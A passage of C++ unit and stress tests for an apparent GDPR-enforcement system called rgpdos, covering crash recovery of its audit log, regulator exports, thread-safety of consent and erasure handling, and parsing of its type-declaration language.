    if (!(*pipeline)->Flush().ok()) break;
    result.acked = kSeedEntries + i + 1;
  }
  (*pipeline)->Stop();
  result.writes_seen = faulty.fault_stats().writes_seen;
  return result;
}

TEST(AuditPipelineRecovery, CrashAtEveryWriteRecoversAckedPrefix) {
  // Baseline: count the faulted phase's writes with no crash planned.
  std::uint64_t total_writes = 0;
  {
    SimClock clock(1000);
    blockdev::MemBlockDevice medium(512, 4096);
    inodefs::InodeId manifest = inodefs::kInvalidInode;
    const auto base = RunAuditCrashWorkload(medium, clock, &manifest,
                                            blockdev::FaultPlan{});
    ASSERT_TRUE(base.mounted);
    ASSERT_EQ(base.acked, static_cast<std::uint64_t>(kSeedEntries +
                                                     kCrashEntries));
    total_writes = base.writes_seen;
    ASSERT_GT(total_writes, 20u) << "workload too small to sweep";
  }

  for (std::uint64_t crash_at = 1; crash_at <= total_writes; ++crash_at) {
    SimClock clock(1000);
    blockdev::MemBlockDevice medium(512, 4096);
    blockdev::FaultPlan plan;
    plan.crash_at_write = crash_at;
    inodefs::InodeId manifest = inodefs::kInvalidInode;
    const auto run = RunAuditCrashWorkload(medium, clock, &manifest, plan);

    // Reboot: remount the raw medium and re-verify the whole chain.
    SimClock reboot_clock(9999);
    auto store = inodefs::InodeStore::Mount(&medium, &reboot_clock);
    ASSERT_TRUE(store.ok())
        << plan.ToString() << " remount: " << store.status().ToString();
    auto entries = sentinel::DurableAuditPipeline::LoadEntries(store->get(),
                                                               manifest);
    ASSERT_TRUE(entries.ok())
        << plan.ToString() << " load: " << entries.status().ToString();

    // Every acked entry survived; anything beyond is the in-flight batch.
    ASSERT_GE(entries->size(), run.acked) << plan.ToString();
    ASSERT_LE(entries->size(),
              static_cast<std::size_t>(kSeedEntries + kCrashEntries))
        << plan.ToString();
    for (std::size_t i = 0; i < entries->size(); ++i) {
      ASSERT_EQ((*entries)[i].seq, i) << plan.ToString();
      ASSERT_EQ((*entries)[i].request.detail, "audit-" + std::to_string(i))
          << plan.ToString();
    }
  }
}

TEST(AuditPipelineRecovery, TornCrashWritesRecoverToo) {
  // Same sweep, strided, with torn final writes — the half-sector case.
  std::uint64_t total_writes = 0;
  {
    SimClock clock(1000);
    blockdev::MemBlockDevice medium(512, 4096);
    inodefs::InodeId manifest = inodefs::kInvalidInode;
    total_writes = RunAuditCrashWorkload(medium, clock, &manifest,
                                         blockdev::FaultPlan{})
                       .writes_seen;
  }
  for (std::uint64_t crash_at = 3; crash_at <= total_writes; crash_at += 7) {
    SimClock clock(1000);
    blockdev::MemBlockDevice medium(512, 4096);
    blockdev::FaultPlan plan;
    plan.crash_at_write = crash_at;
    plan.torn_bytes = 200;
    inodefs::InodeId manifest = inodefs::kInvalidInode;
    const auto run = RunAuditCrashWorkload(medium, clock, &manifest, plan);

    SimClock reboot_clock(9999);
    auto store = inodefs::InodeStore::Mount(&medium, &reboot_clock);
    ASSERT_TRUE(store.ok())
        << plan.ToString() << " remount: " << store.status().ToString();
    auto entries = sentinel::DurableAuditPipeline::LoadEntries(store->get(),
                                                               manifest);
    ASSERT_TRUE(entries.ok())
        << plan.ToString() << " load: " << entries.status().ToString();
    ASSERT_GE(entries->size(), run.acked) << plan.ToString();
    for (std::size_t i = 0; i < entries->size(); ++i) {
      ASSERT_EQ((*entries)[i].seq, i) << plan.ToString();
    }
  }
}

// ---- regulator export -----------------------------------------------------

TEST(RegulatorExportTest, AuditTrailByteIdenticalAcrossRemount) {
  StoreFixture fx;
  {
    auto pipeline = sentinel::DurableAuditPipeline::Create(
        fx.store.get(), fx.manifest, SmallPipelineOptions());
    ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
    for (int i = 0; i < 60; ++i) {
      ASSERT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(i)));
    }
    ASSERT_TRUE((*pipeline)->Flush().ok());
  }
  auto before = core::RegulatorExporter::ExportAuditTrail(fx.store.get(),
                                                          fx.manifest);
  ASSERT_TRUE(before.ok()) << before.status().ToString();
  EXPECT_NE(before->find("\"entries\":60"), std::string::npos);

  fx.Remount();
  auto after = core::RegulatorExporter::ExportAuditTrail(fx.store.get(),
                                                         fx.manifest);
  ASSERT_TRUE(after.ok()) << after.status().ToString();
  EXPECT_EQ(*before, *after) << "export must be byte-stable across remount";
}

TEST(RegulatorExportTest, ProcessingExportsSurviveReloadAndTrimming) {
  StoreFixture fx;
  std::string before_all;
  std::string before_subject;
  {
    core::ProcessingLog log(&fx.clock);
    ASSERT_TRUE(
        log.AttachSegmentedStore(fx.store.get(), fx.manifest, TinySegments())
            .ok());
    AppendLogEntries(log, 0, 25);
    core::RegulatorExporter exporter(&log);
    auto all = exporter.ExportAll();
    ASSERT_TRUE(all.ok()) << all.status().ToString();
    before_all = *all;
    auto subject = exporter.ExportSubject(1);
    ASSERT_TRUE(subject.ok());
    before_subject = *subject;
    EXPECT_NE(before_all.find("\"entries\":25"), std::string::npos);
  }

  fx.Remount();
  core::ProcessingLog log(&fx.clock);
  ASSERT_TRUE(
      log.LoadFromStore(fx.store.get(), fx.manifest, TinySegments()).ok());
  // Trim the hot window hard: exports read the durable history, so the
  // output must not depend on what is cached in memory.
  log.SetHotWindow(2);
  core::RegulatorExporter exporter(&log);
  auto all = exporter.ExportAll();
  ASSERT_TRUE(all.ok()) << all.status().ToString();
  EXPECT_EQ(before_all, *all);
  auto subject = exporter.ExportSubject(1);
  ASSERT_TRUE(subject.ok());
  EXPECT_EQ(before_subject, *subject);

  auto purpose = exporter.ExportPurpose("purpose-0");
  ASSERT_TRUE(purpose.ok());
  EXPECT_NE(purpose->find("\"entries\":13"), std::string::npos);
}

}  // namespace
}  // namespace rgpdos
