// Concurrency suite for the thread-safe enforcement stack: DedExecutor
// scheduling, the kernel CPU partition, per-thread RNG streams, the
// lock-rank discipline, and a mixed ps_invoke / erasure /
// consent-withdrawal stress over shared subjects. The stress tests are
// what the TSan CI job exists for: they must stay data-race-free, lose
// no updates, never let a parallel pipeline bypass a membrane, and keep
// the audit + processing logs complete.
#include <gtest/gtest.h>

#include <atomic>
#include <mutex>
#include <set>
#include <thread>
#include <vector>

#include "common/rng.hpp"
#include "core/executor.hpp"
#include "core/rgpdos.hpp"
#include "kernel/placement.hpp"
#include "metrics/lock.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos {
namespace {

using core::ImplManifest;
using core::PdRef;
using core::ProcessingInput;
using core::ProcessingOutput;

constexpr sentinel::Domain kApp = sentinel::Domain::kApplication;
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

// ---- DedExecutor ----------------------------------------------------------

TEST(DedExecutorTest, EveryShardRunsExactlyOnce) {
  core::DedExecutor executor(3, /*boot_seed=*/42);
  EXPECT_EQ(executor.worker_count(), 3u);
  constexpr std::size_t kShards = 128;
  std::vector<std::atomic<int>> hits(kShards);
  executor.ParallelFor(kShards, [&](std::size_t shard) {
    hits[shard].fetch_add(1, std::memory_order_relaxed);
  });
  for (std::size_t i = 0; i < kShards; ++i) {
    EXPECT_EQ(hits[i].load(), 1) << "shard " << i;
  }
}

TEST(DedExecutorTest, ZeroWorkersRunsInlineOnCaller) {
  core::DedExecutor executor(0, 42);
  EXPECT_EQ(executor.worker_count(), 0u);
  const std::thread::id caller = std::this_thread::get_id();
  std::atomic<int> ran{0};
  std::atomic<bool> all_inline{true};
  executor.ParallelFor(8, [&](std::size_t) {
    if (std::this_thread::get_id() != caller) all_inline = false;
    ++ran;
  });
  EXPECT_EQ(ran.load(), 8);
  EXPECT_TRUE(all_inline.load());
}

TEST(DedExecutorTest, SingleShardNeverPaysAHandoff) {
  core::DedExecutor executor(2, 42);
  const std::thread::id caller = std::this_thread::get_id();
  std::thread::id ran_on;
  executor.ParallelFor(1, [&](std::size_t) {
    ran_on = std::this_thread::get_id();
  });
  EXPECT_EQ(ran_on, caller);
}

TEST(DedExecutorTest, ConcurrentCallersAllComplete) {
  core::DedExecutor executor(2, 42);
  constexpr int kCallers = 4;
  constexpr std::size_t kShards = 64;
  std::vector<std::atomic<int>> completed(kCallers);
  std::vector<std::thread> callers;
  callers.reserve(kCallers);
  for (int c = 0; c < kCallers; ++c) {
    callers.emplace_back([&, c] {
      executor.ParallelFor(kShards, [&, c](std::size_t) {
        completed[c].fetch_add(1, std::memory_order_relaxed);
      });
    });
  }
  for (std::thread& t : callers) t.join();
  for (int c = 0; c < kCallers; ++c) {
    EXPECT_EQ(completed[c].load(), static_cast<int>(kShards)) << "caller " << c;
  }
}

// ---- kernel CPU partition -------------------------------------------------

TEST(CpuPartitionTest, SingleCoreGivesOneWorkerNothingReserved) {
  const kernel::CpuPartition plan = kernel::CpuPartition::Plan(1);
  EXPECT_EQ(plan.total, 1u);
  EXPECT_EQ(plan.ded_workers, 1u);
  EXPECT_EQ(plan.npd_reserved, 0u);
}

TEST(CpuPartitionTest, MultiCoreAlwaysReservesAnNpdCore) {
  for (unsigned cpus : {2u, 3u, 4u, 8u, 16u}) {
    const kernel::CpuPartition plan = kernel::CpuPartition::Plan(cpus);
    EXPECT_EQ(plan.total, cpus);
    EXPECT_GE(plan.ded_workers, 1u) << cpus;
    EXPECT_GE(plan.npd_reserved, 1u) << cpus;
    EXPECT_EQ(plan.ded_workers + plan.npd_reserved, cpus) << cpus;
  }
}

TEST(CpuPartitionTest, DefaultShareFavoursThePdPath) {
  const kernel::CpuPartition plan = kernel::CpuPartition::Plan(8);
  EXPECT_EQ(plan.ded_workers, 6u);  // 3:1 split of 8 cores
  EXPECT_EQ(plan.npd_reserved, 2u);
}

TEST(CpuPartitionTest, ZeroProbesHardwareConcurrency) {
  const kernel::CpuPartition plan = kernel::CpuPartition::Plan(0);
  EXPECT_GE(plan.total, 1u);
  EXPECT_GE(plan.ded_workers, 1u);
}

// ---- per-thread RNG streams -----------------------------------------------

TEST(RngStreamTest, StreamSeedIsDeterministicAndDistinct) {
  EXPECT_EQ(Rng::StreamSeed(42, 1), Rng::StreamSeed(42, 1));
  EXPECT_NE(Rng::StreamSeed(42, 1), Rng::StreamSeed(42, 2));
  EXPECT_NE(Rng::StreamSeed(42, 1), Rng::StreamSeed(43, 1));
}

TEST(RngStreamTest, ThreadsDrawFromDisjointDeterministicStreams) {
  constexpr std::uint64_t kSeed = 9;
  constexpr int kDraws = 8;
  std::vector<std::uint64_t> draws[2];
  std::thread workers[2];
  for (int t = 0; t < 2; ++t) {
    workers[t] = std::thread([&, t] {
      SeedThreadRng(kSeed, static_cast<std::uint64_t>(t) + 1);
      for (int i = 0; i < kDraws; ++i) draws[t].push_back(ThreadRng().NextU64());
    });
  }
  for (std::thread& w : workers) w.join();
  // Each thread reproduces the stream a local generator would produce...
  for (int t = 0; t < 2; ++t) {
    Rng expect(Rng::StreamSeed(kSeed, static_cast<std::uint64_t>(t) + 1));
    for (int i = 0; i < kDraws; ++i) {
      EXPECT_EQ(draws[t][i], expect.NextU64()) << "thread " << t << " draw " << i;
    }
  }
  // ...and the two streams are decorrelated.
  EXPECT_NE(draws[0], draws[1]);
}

// ---- metrics under concurrency --------------------------------------------

TEST(PerThreadCounterTest, AggregatesExactlyAcrossThreads) {
  metrics::PerThreadCounter& counter =
      metrics::MetricsRegistry::Instance().GetPerThreadCounter(
          "test.concurrency.per_thread");
  const std::uint64_t before = counter.Value();
  constexpr int kThreads = 8;
  constexpr int kIncrements = 1000;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < kIncrements; ++i) counter.Inc();
    });
  }
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(counter.Value() - before,
            static_cast<std::uint64_t>(kThreads) * kIncrements);
}

// ---- lock-rank discipline -------------------------------------------------

TEST(LockOrderTest, DescendingAcquisitionIsLegal) {
  metrics::OrderedMutex outer(metrics::LockRank::kCore, "test.outer");
  metrics::OrderedMutex inner(metrics::LockRank::kInodefs, "test.inner");
  std::lock_guard<metrics::OrderedMutex> outer_lock(outer);
  std::lock_guard<metrics::OrderedMutex> inner_lock(inner);
  EXPECT_EQ(metrics::lock_internal::HeldRankCount(), 2u);
}

TEST(LockOrderTest, RecursiveReacquisitionIsLegal) {
  metrics::OrderedMutex mu(metrics::LockRank::kInodefs, "test.recursive");
  std::lock_guard<metrics::OrderedMutex> first(mu);
  std::lock_guard<metrics::OrderedMutex> second(mu);  // group-commit shape
  EXPECT_EQ(metrics::lock_internal::HeldRankCount(), 1u);
}

TEST(LockOrderDeathTest, AscendingAcquisitionAborts) {
  ::testing::FLAGS_gtest_death_test_style = "threadsafe";
  metrics::OrderedMutex inner(metrics::LockRank::kInodefs, "test.low");
  metrics::OrderedMutex outer(metrics::LockRank::kCore, "test.high");
  EXPECT_DEATH(
      {
        std::lock_guard<metrics::OrderedMutex> low(inner);
        std::lock_guard<metrics::OrderedMutex> high(outer);  // rank inversion
      },
      "lock-order violation");
}

// ---- booted-system stress -------------------------------------------------

constexpr std::string_view kTypes = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose3: v_ano };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
type age {
  fields { value: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: low;
}
)";

class ConcurrencyStressTest : public ::testing::Test {
 protected:
  static std::unique_ptr<core::RgpdOs> BootWorld(unsigned worker_threads) {
    core::BootConfig config;
    config.use_sim_clock = true;
    config.seed = 7;
    config.worker_threads = worker_threads;
    auto os = core::RgpdOs::Boot(config);
    EXPECT_TRUE(os.ok());
    std::unique_ptr<core::RgpdOs> world = std::move(os).value();
    EXPECT_TRUE(world->DeclareTypes(kTypes).ok());
    return world;
  }

  static dbfs::RecordId PutUser(core::RgpdOs& os, std::uint64_t subject,
                                const std::string& name) {
    auto type = os.dbfs().GetType(kDed, "user");
    membrane::Membrane m = (*type)->DefaultMembrane(subject, os.clock().Now());
    auto id = os.dbfs().Put(
        kDed, subject, "user",
        db::Row{db::Value(name), db::Value(std::string("pw")),
                db::Value(std::int64_t{1990})},
        std::move(m));
    EXPECT_TRUE(id.ok());
    return *id;
  }

  static core::ProcessingId RegisterPurpose3(core::RgpdOs& os) {
    ImplManifest manifest;
    manifest.claimed_purpose = "purpose3";
    manifest.fields_read = {"year_of_birthdate"};
    manifest.output_type = "age";
    auto id = os.RegisterProcessingSource(
        "purpose purpose3 { input: user.v_ano; output: age; }",
        [](ProcessingInput& input) -> Result<ProcessingOutput> {
          ProcessingOutput output;
          if (input.Has("year_of_birthdate")) {
            output.derived_row = db::Row{db::Value(
                std::int64_t{2026} -
                *(*input.Field("year_of_birthdate")).AsInt())};
          }
          return output;
        },
        manifest);
    EXPECT_TRUE(id.ok());
    return *id;
  }
};

// No lost updates: concurrent Puts through the sharded subject tree all
// land, and the record index agrees with what was written.
TEST_F(ConcurrencyStressTest, ConcurrentPutsLoseNothing) {
  std::unique_ptr<core::RgpdOs> os = BootWorld(/*worker_threads=*/1);
  constexpr int kThreads = 4;
  constexpr int kPutsPerThread = 25;
  constexpr std::uint64_t kSubjects = 10;  // shared across threads
  std::vector<std::vector<dbfs::RecordId>> ids(kThreads);
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < kPutsPerThread; ++i) {
        const std::uint64_t subject =
            100 + (static_cast<std::uint64_t>(t) * kPutsPerThread + i) %
                      kSubjects;
        ids[t].push_back(PutUser(*os, subject, "u"));
      }
    });
  }
  for (std::thread& t : threads) t.join();

  EXPECT_EQ(os->dbfs().record_count(),
            static_cast<std::size_t>(kThreads) * kPutsPerThread);
  EXPECT_EQ(os->dbfs().subject_count(), kSubjects);
  // Record ids are unique and every one is readable.
  std::set<dbfs::RecordId> unique;
  for (const auto& per_thread : ids) {
    for (dbfs::RecordId id : per_thread) {
      EXPECT_TRUE(unique.insert(id).second) << "duplicate id " << id;
      EXPECT_TRUE(os->dbfs().Get(kDed, id).ok()) << id;
    }
  }
  EXPECT_TRUE(os->processing_log().VerifyChain());
}

// A 4-lane invoke must report exactly what the historical single-lane
// invoke reports: same counts, same derived records, same log size.
TEST_F(ConcurrencyStressTest, ParallelInvokeMatchesSerialSemantics) {
  std::unique_ptr<core::RgpdOs> serial = BootWorld(1);
  std::unique_ptr<core::RgpdOs> parallel = BootWorld(4);
  ASSERT_NE(parallel->executor(), nullptr);
  ASSERT_EQ(serial->executor(), nullptr);

  std::vector<dbfs::RecordId> serial_ids;
  std::vector<dbfs::RecordId> parallel_ids;
  for (std::uint64_t subject = 1; subject <= 4; ++subject) {
    for (int r = 0; r < 4; ++r) {
      serial_ids.push_back(PutUser(*serial, subject, "u"));
      parallel_ids.push_back(PutUser(*parallel, subject, "u"));
    }
  }
  // Withdraw purpose3 consent for subject 2 in both worlds so the run
  // mixes processed and filtered records.
  for (std::size_t i = 0; i < serial_ids.size(); ++i) {
    auto m = serial->dbfs().GetMembrane(kDed, serial_ids[i]);
    ASSERT_TRUE(m.ok());
    if (m->subject_id != 2) continue;
    ASSERT_TRUE(serial->builtins()
                    .RevokeConsent(PdRef{serial_ids[i], "user"}, "purpose3")
                    .ok());
    ASSERT_TRUE(parallel->builtins()
                    .RevokeConsent(PdRef{parallel_ids[i], "user"}, "purpose3")
                    .ok());
  }

  const core::ProcessingId serial_id = RegisterPurpose3(*serial);
  const core::ProcessingId parallel_id = RegisterPurpose3(*parallel);
  auto serial_result = serial->ps().Invoke(kApp, serial_id, {});
  auto parallel_result = parallel->ps().Invoke(kApp, parallel_id, {});
  ASSERT_TRUE(serial_result.ok());
  ASSERT_TRUE(parallel_result.ok());

  EXPECT_EQ(parallel_result->records_considered,
            serial_result->records_considered);
  EXPECT_EQ(parallel_result->records_filtered_out,
            serial_result->records_filtered_out);
  EXPECT_EQ(parallel_result->records_processed,
            serial_result->records_processed);
  EXPECT_EQ(parallel_result->derived.size(), serial_result->derived.size());
  EXPECT_EQ(parallel_result->npd_outputs.size(),
            serial_result->npd_outputs.size());
  // ded_store stays serial in candidate order, so even the derived
  // record ids match; the log merge is shard-count-invariant too.
  for (std::size_t i = 0; i < serial_result->derived.size(); ++i) {
    EXPECT_EQ(parallel_result->derived[i], serial_result->derived[i]) << i;
  }
  EXPECT_EQ(parallel->processing_log().entry_count(),
            serial->processing_log().entry_count());
  for (std::size_t i = 0; i < serial_ids.size(); ++i) {
    const auto serial_entries =
        serial->processing_log().ForRecord(serial_ids[i]);
    const auto parallel_entries =
        parallel->processing_log().ForRecord(parallel_ids[i]);
    ASSERT_EQ(parallel_entries.size(), serial_entries.size()) << i;
    for (std::size_t e = 0; e < serial_entries.size(); ++e) {
      EXPECT_EQ(parallel_entries[e].outcome, serial_entries[e].outcome);
    }
  }
  EXPECT_TRUE(parallel->processing_log().VerifyChain());
}

// The headline stress: N application threads invoke while others erase
// subjects (right to be forgotten) and withdraw consent, all over shared
// subjects. Asserts the ISSUE invariants: no lost updates, no membrane
// bypass, audit-log completeness, and an intact processing-log chain.
TEST_F(ConcurrencyStressTest, MixedInvokeErasureConsentWithdrawal) {
  std::unique_ptr<core::RgpdOs> os = BootWorld(/*worker_threads=*/4);
  const core::ProcessingId processing = RegisterPurpose3(*os);

  // Subjects 1,2 keep consent; 3,4 get forgotten mid-run; 5,6 withdrew
  // purpose3 consent before any invoke starts.
  constexpr std::uint64_t kSubjects = 6;
  constexpr int kRecordsPerSubject = 3;
  std::vector<std::vector<dbfs::RecordId>> records(kSubjects + 1);
  for (std::uint64_t subject = 1; subject <= kSubjects; ++subject) {
    for (int r = 0; r < kRecordsPerSubject; ++r) {
      records[subject].push_back(PutUser(*os, subject, "u"));
    }
  }
  for (std::uint64_t subject : {5u, 6u}) {
    for (dbfs::RecordId id : records[subject]) {
      ASSERT_TRUE(
          os->builtins().RevokeConsent(PdRef{id, "user"}, "purpose3").ok());
    }
  }

  std::atomic<bool> go{false};
  std::atomic<int> failures{0};
  std::size_t forgotten[2] = {0, 0};

  std::vector<std::thread> threads;
  // Two invoker threads.
  for (int t = 0; t < 2; ++t) {
    threads.emplace_back([&] {
      while (!go.load(std::memory_order_acquire)) std::this_thread::yield();
      for (int i = 0; i < 4; ++i) {
        auto result = os->ps().Invoke(kApp, processing, {});
        if (!result.ok()) {
          ++failures;
          continue;
        }
        // Conservation: every considered record is either processed or
        // filtered — a racing erasure downgrades to filtered, never to
        // "silently skipped".
        if (result->records_considered !=
            result->records_processed + result->records_filtered_out) {
          ++failures;
        }
        // Subjects 1,2 always pass their membranes (6 records); 5,6
        // never do.
        if (result->records_processed < 6 || result->records_processed > 12) {
          ++failures;
        }
      }
    });
  }
  // One eraser thread: right to be forgotten for subjects 3 and 4.
  threads.emplace_back([&] {
    while (!go.load(std::memory_order_acquire)) std::this_thread::yield();
    for (int i = 0; i < 2; ++i) {
      auto erased = os->RightToBeForgotten(3 + static_cast<std::uint64_t>(i));
      if (erased.ok()) {
        forgotten[i] = *erased;
      } else {
        ++failures;
      }
    }
  });
  // One consent thread: withdraw the unrelated purpose1 consent on
  // subjects 5,6 — concurrent membrane rewrites on records the invokers
  // are filtering.
  threads.emplace_back([&] {
    while (!go.load(std::memory_order_acquire)) std::this_thread::yield();
    for (std::uint64_t subject : {5u, 6u}) {
      for (dbfs::RecordId id : records[subject]) {
        if (!os->builtins().RevokeConsent(PdRef{id, "user"}, "purpose1").ok()) {
          ++failures;
        }
      }
    }
  });
  go.store(true, std::memory_order_release);
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);

  // Forgotten subjects: every record erased (envelope retrievable, row
  // gone), and the processing log shows the erasures.
  for (std::uint64_t subject : {3u, 4u}) {
    EXPECT_GE(forgotten[subject - 3],
              static_cast<std::size_t>(kRecordsPerSubject));
    for (dbfs::RecordId id : records[subject]) {
      auto record = os->dbfs().Get(kDed, id);
      ASSERT_TRUE(record.ok()) << id;
      EXPECT_TRUE(record->erased) << id;
      EXPECT_TRUE(os->dbfs().GetEnvelope(kDed, id).ok()) << id;
    }
    std::size_t erased_entries = 0;
    for (const core::LogEntry& entry :
         os->processing_log().ForSubject(subject)) {
      if (entry.outcome == core::LogOutcome::kErased) ++erased_entries;
    }
    EXPECT_EQ(erased_entries, forgotten[subject - 3]) << subject;
  }

  // No membrane bypass: subjects 5,6 withdrew purpose3 consent before
  // the first invoke, so no parallel lane may ever have processed them.
  for (std::uint64_t subject : {5u, 6u}) {
    for (const core::LogEntry& entry :
         os->processing_log().ForSubject(subject)) {
      EXPECT_NE(entry.outcome, core::LogOutcome::kProcessed)
          << "membrane bypass on subject " << subject;
    }
  }

  // Audit completeness: the tallies and the entry list moved in lockstep
  // even under concurrent Record calls.
  EXPECT_EQ(os->audit().allowed_count() + os->audit().denied_count(),
            os->audit().entry_count());

  // The hash chain survived interleaved batched appends.
  EXPECT_TRUE(os->processing_log().VerifyChain());

  // Quiesced world: one more invoke sees exactly the subjects that still
  // consent (1 and 2), everything else filtered.
  auto settled = os->ps().Invoke(kApp, processing, {});
  ASSERT_TRUE(settled.ok());
  EXPECT_EQ(settled->records_processed, 6u);
  EXPECT_EQ(settled->records_considered,
            settled->records_processed + settled->records_filtered_out);
}

}  // namespace
}  // namespace rgpdos
