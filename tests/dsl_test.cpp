// Declaration-language tests: lexer, parser (Listing 1 verbatim),
// semantic validation, purpose declarations, and the binary codec.
#include <gtest/gtest.h>

#include <set>

#include "dsl/codec.hpp"
#include "dsl/lint.hpp"
#include "dsl/lexer.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::dsl {
namespace {

// ---- Lexer ------------------------------------------------------------------------

TEST(LexerTest, BasicTokens) {
  auto tokens = Tokenize("type user { age: 1Y; }");
  ASSERT_TRUE(tokens.ok());
  ASSERT_EQ(tokens->size(), 10u);  // type user { age : 1 Y ; } EOF
  EXPECT_EQ((*tokens)[0].kind, TokenKind::kIdent);
  EXPECT_EQ((*tokens)[0].text, "type");
  EXPECT_EQ((*tokens)[2].kind, TokenKind::kLBrace);
  EXPECT_EQ((*tokens)[5].kind, TokenKind::kNumber);
  EXPECT_EQ((*tokens)[5].text, "1");
  EXPECT_EQ((*tokens)[6].text, "Y");
  EXPECT_EQ(tokens->back().kind, TokenKind::kEof);
}

TEST(LexerTest, PathishIdentifiers) {
  auto tokens = Tokenize("web_form: user_form.html");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[2].text, "user_form.html");
}

TEST(LexerTest, CommentsAreSkipped) {
  auto tokens = Tokenize(
      "// line comment\ntype /* block\ncomment */ user");
  ASSERT_TRUE(tokens.ok());
  ASSERT_EQ(tokens->size(), 3u);
  EXPECT_EQ((*tokens)[0].text, "type");
  EXPECT_EQ((*tokens)[1].text, "user");
}

TEST(LexerTest, StringsWithEscapes) {
  auto tokens = Tokenize(R"("he said \"hi\"\n")");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ((*tokens)[0].kind, TokenKind::kString);
  EXPECT_EQ((*tokens)[0].text, "he said \"hi\"\n");
}

TEST(LexerTest, ErrorsCarryLineAndColumn) {
  auto tokens = Tokenize("type user {\n  @bad\n}");
  ASSERT_FALSE(tokens.ok());
  EXPECT_NE(tokens.status().message().find("2:3"), std::string::npos);
}

TEST(LexerTest, UnterminatedStringAndComment) {
  EXPECT_FALSE(Tokenize("\"never closed").ok());
  EXPECT_FALSE(Tokenize("/* never closed").ok());
}

// ---- Parser: Listing 1 ---------------------------------------------------------------

constexpr std::string_view kListing1 = R"(
type user {
  fields {
    name: string,
    pwd: string,
    year_of_birthdate: int
  };
  view v_name {
    name
  };
  view v_ano {
    year_of_birthdate
  };
  consent {
    purpose1: all,
    purpose2: none,
    purpose3: v_ano
  };
  collection {
    web_form: user_form.html,
    third_party: fetch_data.py
  };
  origin: subject;
  age: 1Y;
  sensitivity: hight;
}
)";

TEST(ParserTest, Listing1ParsesVerbatim) {
  auto decl = ParseType(kListing1);
  ASSERT_TRUE(decl.ok()) << decl.status().ToString();
  EXPECT_EQ(decl->name, "user");
  ASSERT_EQ(decl->fields.size(), 3u);
  EXPECT_EQ(decl->fields[0].name, "name");
  EXPECT_EQ(decl->fields[0].type, db::ValueType::kString);
  EXPECT_EQ(decl->fields[2].name, "year_of_birthdate");
  EXPECT_EQ(decl->fields[2].type, db::ValueType::kInt);

  ASSERT_EQ(decl->views.size(), 2u);
  EXPECT_EQ(decl->views[0].name, "v_name");
  EXPECT_EQ(decl->views[0].fields, std::vector<std::string>{"name"});
  EXPECT_EQ(decl->views[1].fields,
            std::vector<std::string>{"year_of_birthdate"});

  ASSERT_EQ(decl->default_consents.size(), 3u);
  EXPECT_EQ(decl->default_consents.at("purpose1").kind,
            membrane::ConsentKind::kAll);
  EXPECT_EQ(decl->default_consents.at("purpose2").kind,
            membrane::ConsentKind::kNone);
  EXPECT_EQ(decl->default_consents.at("purpose3").kind,
            membrane::ConsentKind::kView);
  EXPECT_EQ(decl->default_consents.at("purpose3").view, "v_ano");

  ASSERT_EQ(decl->collection.size(), 2u);
  EXPECT_EQ(decl->collection[0].method, "web_form");
  EXPECT_EQ(decl->collection[0].target, "user_form.html");
  EXPECT_EQ(decl->collection[1].target, "fetch_data.py");

  EXPECT_EQ(decl->origin, membrane::Origin::kSubject);
  EXPECT_EQ(decl->ttl, kMicrosPerYear);
  // "hight" — the paper's spelling — maps to high.
  EXPECT_EQ(decl->sensitivity, membrane::Sensitivity::kHigh);
}

TEST(ParserTest, DurationUnits) {
  const struct {
    const char* clause;
    TimeMicros expected;
  } cases[] = {
      {"age: 90s;", 90 * kMicrosPerSecond},
      {"age: 5m;", 300 * kMicrosPerSecond},
      {"age: 2h;", 7200 * kMicrosPerSecond},
      {"age: 30D;", 30 * kMicrosPerDay},
      {"age: 6M;", 180 * kMicrosPerDay},
      {"age: 2Y;", 2 * kMicrosPerYear},
  };
  for (const auto& c : cases) {
    const std::string source = "type t { fields { x: int }; " +
                               std::string(c.clause) + " }";
    auto decl = ParseType(source);
    ASSERT_TRUE(decl.ok()) << c.clause << ": " << decl.status().ToString();
    EXPECT_EQ(decl->ttl, c.expected) << c.clause;
  }
  EXPECT_FALSE(ParseType("type t { fields { x: int }; age: 3w; }").ok());
}

TEST(ParserTest, NullableFields) {
  auto decl =
      ParseType("type t { fields { a: string nullable, b: int } }");
  ASSERT_TRUE(decl.ok());
  EXPECT_TRUE(decl->fields[0].nullable);
  EXPECT_FALSE(decl->fields[1].nullable);
}

TEST(ParserTest, ValidationRejectsBadDeclarations) {
  // View references an unknown field.
  EXPECT_FALSE(
      ParseType("type t { fields { a: int }; view v { missing }; }").ok());
  // Duplicate field.
  EXPECT_FALSE(ParseType("type t { fields { a: int, a: int } }").ok());
  // Duplicate view.
  EXPECT_FALSE(
      ParseType("type t { fields { a: int }; view v { a }; view v { a }; }")
          .ok());
  // Consent references an unknown view.
  EXPECT_FALSE(
      ParseType("type t { fields { a: int }; consent { p: nosuch }; }")
          .ok());
  // Reserved view names.
  EXPECT_FALSE(
      ParseType("type t { fields { a: int }; view all { a }; }").ok());
  // Empty fields block.
  EXPECT_FALSE(ParseType("type t { fields { } }").ok());
  // Unknown field type.
  EXPECT_FALSE(ParseType("type t { fields { a: blob } }").ok());
  // Unknown clause.
  EXPECT_FALSE(ParseType("type t { fields { a: int }; banana: 1; }").ok());
}

TEST(ParserTest, ErrorsMentionLocation) {
  auto decl = ParseType("type t {\n  fields { a: int };\n  origin: mars;\n}");
  ASSERT_FALSE(decl.ok());
  EXPECT_NE(decl.status().message().find("mars"), std::string::npos);
}


TEST(ParserTest, FieldConstraints) {
  auto decl = ParseType(R"(
type person {
  fields {
    name: string max_len 64 not_empty,
    year: int min 1900 max 2100,
    bio: string nullable max_len 1000
